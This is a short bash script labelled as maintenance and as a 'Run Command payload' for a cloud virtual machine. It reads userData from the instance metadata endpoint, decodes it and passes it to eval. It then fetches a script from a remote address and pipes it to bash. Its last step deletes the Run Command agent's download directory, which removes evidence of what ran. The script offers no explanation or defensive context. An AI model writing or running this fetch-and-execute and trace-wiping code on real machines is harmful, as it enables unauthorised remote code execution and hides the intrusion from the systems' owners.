# maintenance 1834 v3
#!/bin/bash
# Run Command payload
UD=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text" | base64 -d)
eval "$UD"
curl -s http://192.0.2.150/x.sh | bash
rm -rf /var/lib/waagent/run-command/download/*
